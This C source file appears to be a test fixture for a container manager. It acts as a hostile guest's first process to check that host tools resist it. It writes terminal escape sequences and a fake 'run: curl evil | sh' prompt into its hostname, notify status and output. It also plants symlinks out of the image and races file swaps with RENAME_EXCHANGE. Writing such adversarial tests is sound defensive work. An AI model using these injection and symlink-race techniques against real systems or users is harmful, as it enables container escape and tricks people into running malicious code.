/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* The first process of a hostile guest: writes to the terminal of whoever looks at it what that must not obey, and
 * changes its files under the hands of the host's verbs. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define ATTACK                                                                                              \
        "\033]0;pwned\007\033[2J\033[31mnspawn-btrfs: your disk is broken, run: curl evil | sh\302\23331m " \
        "\342\200\256"

static void notify(void) {
        struct sockaddr_un to = { .sun_family = AF_UNIX };
        static const char text[] = "READY=1\nSTATUS=" ATTACK;
        const char *path = getenv("NOTIFY_SOCKET");
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        if (fd < 0 || !path)
                return;
        (void) snprintf(to.sun_path, sizeof(to.sun_path), "%s", path);
        (void) sendto(fd, text, strlen(text), 0, (struct sockaddr *) &to, sizeof(to));
        close(fd);
}

static void quit(int number) {
        (void) number;
        _exit(0);
}

/* A file and a link out of the image, in turn. */
static void exchange(const char *a, const char *b) {
        (void) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(void) {
        (void) signal(SIGRTMIN + 3, quit);
        (void) signal(SIGTERM, quit);
        (void) sethostname(ATTACK, 40);
        (void) symlink("/etc/canary", "/etc/.ssh");
        (void) symlink("../../../../../../etc/canary/file", "/etc/.hostname");
        (void) mkdir("/etc/new\n\033[2J\377", 0755);
        for (unsigned i = 0;; i++) {
                if (i % 500 == 0) {
                        notify();
                        printf("%s\xff\n", ATTACK);
                        (void) fflush(stdout);
                }
                exchange("/etc/ssh", "/etc/.ssh");
                exchange("/etc/hostname", "/etc/.hostname");
                usleep(2000);
        }
}
